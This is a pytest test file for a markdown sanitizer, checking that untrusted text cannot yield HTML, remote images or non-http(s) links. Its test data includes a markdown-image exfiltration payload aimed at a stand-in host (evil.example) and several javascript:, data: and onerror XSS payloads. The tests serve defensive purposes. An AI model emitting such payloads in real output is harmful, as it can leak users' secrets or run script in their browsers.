"""Untrusted text never becomes HTML, a remote image or a non-http(s) link."""

from __future__ import annotations

import re

import pytest

from services.safe_text import plain_label, sanitize_markdown

IMAGE_RE = re.compile(r"(?<!\\)!\[")


@pytest.mark.parametrize(
    "payload",
    [
        "![exfil](https://evil.example/p.png?q=secret)",
        "![a][r]\n\n[r]: https://evil.example/p.png",
        "text ![x](data:image/png;base64,AAAA) more",
    ],
)
def test_no_image_survives(payload: str) -> None:
    assert not IMAGE_RE.search(sanitize_markdown(payload))


@pytest.mark.parametrize(
    "payload,scheme",
    [("[x](javascript:alert(1))", "javascript"), ("[x](data:text/html,<script>1</script>)", "data"),
     ("[x](vbscript:msgbox)", "vbscript"), ("[x]( JAVASCRIPT:alert(1) )", "JAVASCRIPT")],
)
def test_non_http_links_become_text(payload: str, scheme: str) -> None:
    out = sanitize_markdown(payload)
    assert f"]({scheme}" not in out and f"]( {scheme}" not in out
    assert "link removed" in out


def test_reference_definitions_with_bad_schemes_are_defused() -> None:
    out = sanitize_markdown("[click][r]\n\n[r]: javascript:alert(1)")
    assert "\\[r\\]: javascript" in out


def test_http_links_stay_clickable() -> None:
    assert sanitize_markdown("see [docs](https://ollama.com/docs)") == "see [docs](https://ollama.com/docs)"


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                                     "<javascript:alert(1)>"])
def test_html_is_escaped(payload: str) -> None:
    assert "<" not in sanitize_markdown(payload).replace("\\<", "")


def test_code_is_left_as_written() -> None:
    text = "before $5\n```python\nprint('<b>$x</b>')\n```\nafter `<i>` $6"
    out = sanitize_markdown(text)
    assert "```python\nprint('<b>$x</b>')\n```" in out
    assert "`<i>`" in out and "\\$5" in out and "\\$6" in out


def test_plain_label_is_one_escaped_line() -> None:
    assert plain_label("**bold**\n[x](javascript:1)") == "\\*\\*bold\\*\\* \\[x\\]\\(javascript\\:1\\)"
    assert len(plain_label("y" * 500, limit=40)) <= 40
